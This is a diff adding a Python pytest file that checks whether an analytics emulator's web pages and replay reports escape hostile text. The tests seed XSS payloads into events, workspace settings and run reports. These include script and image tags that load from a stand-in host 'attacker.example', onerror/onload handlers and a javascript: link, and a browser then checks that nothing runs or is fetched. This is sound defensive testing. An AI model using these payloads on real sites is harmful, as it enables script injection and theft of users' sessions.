@@ -1,0 +1,177 @@
+"""Whatever stands in what is captured, configured or reported, no page runs it or fetches for it.
+
+The browser is told to ignore the policy of the pages: what holds here is that text stays text. That
+the policy is there, for whatever should escape this, is tested apart.
+"""
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urljoin, urlsplit
+
+import orjson
+import pytest
+import requests
+from click.testing import CliRunner
+from inspector.running import Running, running
+from playwright.sync_api import Browser, Page
+
+from emulator.cli import main
+from emulator.inspector.headers import POLICY
+from emulator.types import JSONObject
+from emulator.workspace import preset
+
+FOREIGN = "http://attacker.example/"
+ATTACK = (
+    f"\"'></title></textarea></style><script src={FOREIGN}x.js></script><script>owned=1</script>"
+    f"<img src={FOREIGN}x.png onerror=owned=1><svg onload=owned=1>{{{{7*7}}}}{{% raw %}}"
+)
+LINK = "javascript:owned=1"
+ALIVE = """[...document.querySelectorAll('*')].filter(each => [...each.attributes].some(
+    own => own.name.startsWith('on') || own.name.match(/^(href|src|action|formaction)$/)
+        && /^\\s*javascript:/i.test(own.value))).length"""
+MOST_PAGES = 120
+
+
+def hostile_event(text: str) -> JSONObject:
+    """A call that has *text* wherever an SDK lets a sender write."""
+    return {
+        **{"type": "track", "messageId": f"m {text}", "event": text, "userId": f"ada {text}"},
+        "properties": {text: text, "url": text, "products": [{text: text}]},
+        "context": {"page": {"url": text, "title": text}, "library": {"name": text}, text: text},
+        "integrations": {text: True},
+    }
+
+
+def hostile_workspace(text: str) -> JSONObject:
+    """A workspace that has *text* wherever its author may write."""
+    document = preset("guide").document
+    subscription: JSONObject = {
+        "name": text,
+        "actionSlug": "trackEvent",
+        "enabled": True,
+        "trigger": 'type = "track"',
+        "settings": {
+            "event_name": {"@literal": "seen"},
+            "timestamp": {"@path": "$.receivedAt"},
+            "uuid": {"@path": "$.userId"},
+            "parameters": {"note": {"@template": f"{text} {{{{event}}}}"}},
+        },
+    }
+    journey: JSONObject = {
+        "id": 1,
+        "name": text,
+        "starter": {"events": ["seen"], "parameters": {"note": {"is_not": text}}},
+        "eligibility": {"times": "once"},
+        "goals": [{"name": text, "events": ["seen"]}],
+        "steps": [{"channel": "email", "message": text}],
+    }
+    return {
+        **document,
+        "source": {**document["source"], "name": text},
+        "destination": {
+            **document["destination"],
+            "name": text,
+            "subscriptions": [subscription, *document["destination"]["subscriptions"]],
+            "filters": [{"title": text[:64], "if": 'event = "none"', "actions": [{"type": "DROP"}]}],
+        },
+        "insider": {**document["insider"], "journeys": [journey]},
+    }
+
+
+def hostile_run(text: str) -> JSONObject:
+    """A run of scenarios that has *text* in all its names."""
+    step = {"keyword": text[:20], "text": text, "line": 6, "verdict": "failed", "failure": text}
+    scenario = {
+        **{"name": text, "line": 5, "verdict": "failed", "seconds": 1, "failure": text},
+        "messages": [f"m {text}"],
+        "steps": [step],
+    }
+    feature = {"name": text, "uri": text, "scenarios": [scenario]}
+    return {"startedAt": "2026-11-23T10:00:00Z", "features": [feature]}
+
+
+@pytest.fixture(scope="module", params=[ATTACK, LINK], ids=["markup", "a link"])
+def attacked(request: pytest.FixtureRequest) -> Iterator[Running]:
+    """An emulator that has the attack in all places that take a text."""
+    text: str = request.param
+    with running() as emulator:
+        control = f"{emulator.url}/emulator/v1"
+        said = [
+            requests.put(f"{control}/workspace", json={"workspace": hostile_workspace(text)}),
+            requests.post(
+                f"{control}/panel/integrations",
+                json={"name": text, "type": "Source"},
+                headers={"X-InOne-Role": "Administrator"},
+            ),
+            requests.post(f"{control}/faults", json={"share": 0.0001, "body": text, "seed": text[:100]}),
+            requests.post(f"{control}/scenario-runs", json=hostile_run(text)),
+        ]
+        emulator.send(hostile_event(text), {"type": text, "userId": "ada"})
+        emulator.send({"type": "identify", "userId": "ada", "traits": {text: text, "email": text}})
+        emulator.send({"type": "identify", "userId": "eve", "traits": {"firstName": text}})
+        assert [each.status_code for each in said] == [200, 201, 200, 201]
+        yield emulator
+
+
+def pages(emulator: Running) -> Iterator[str]:
+    """Addresses of all pages that a person can get to by links."""
+    waiting, known = ["/"], {"/"}
+    while waiting and len(known) < MOST_PAGES:
+        at = waiting.pop(0)
+        answer = requests.get(emulator.url + at, timeout=20)
+        if answer.headers["Content-Type"].startswith("text/html"):
+            yield at
+            for link in re.findall(r'<a [^>]*?href="([^"]*)"', answer.text):
+                there = urlsplit(urljoin(emulator.url + at, link.replace("&amp;", "&")))
+                path = there.path + (f"?{there.query}" if there.query else "")
+                if there.netloc == urlsplit(emulator.url).netloc and path not in known:
+                    known.add(path)
+                    waiting.append(path)
+
+
+def unharmed(page: Page, address: str) -> list[str]:
+    """What is wrong with the page at *address*; nothing is expected to be."""
+    fetched: list[str] = []
+    page.on("request", lambda each: fetched.append(each.url))
+    page.goto(address)
+    found = [f"fetched {each}" for each in fetched if each.startswith(FOREIGN)]
+    if page.evaluate("typeof owned") != "undefined":
+        found.append("ran a script")
+    if page.locator("script:not([src]):not([type='application/json'])").count():
+        found.append("has a script of its own")
+    if page.evaluate(ALIVE):
+        found.append("has an attribute that runs something")
+    return [f"{address} {each}" for each in found]
+
+
+def test_no_page_runs_or_fetches_what_was_captured(attacked: Running, browser: Browser) -> None:
+    found, seen = [], 0
+    with browser.new_context(bypass_csp=True) as context:
+        page = context.new_page()
+        for each in pages(attacked):
+            seen += 1
+            found += unharmed(page, attacked.url + each)
+    assert found == []
+    assert seen > 15
+
+
+def test_every_page_has_the_policy(attacked: Running) -> None:
+    said = {
+        each: requests.get(attacked.url + each, timeout=20).headers["Content-Security-Policy"]
+        for each in pages(attacked)
+    }
+    assert {each for each, policy in said.items() if policy != POLICY} == set()
+
+
+def test_the_page_of_a_replay_runs_nothing(tmp_path: Path, browser: Browser) -> None:
+    archive, report, workspace = (tmp_path / name for name in ("a.ndjson", "a.html", "w.json"))
+    archive.write_bytes(
+        b"\n".join(orjson.dumps(each) for each in (hostile_event(ATTACK), hostile_event(LINK)))
+    )
+    workspace.write_bytes(orjson.dumps(hostile_workspace(ATTACK)))
+    options = ["--workspace", str(workspace), "--workers", "1", "--html", str(report)]
+    CliRunner().invoke(main, ["replay", str(archive), *options], catch_exceptions=False)
+    assert "attacker.example" in report.read_text()
+    with browser.new_context(bypass_csp=True) as context:
+        assert unharmed(context.new_page(), report.as_uri()) == []
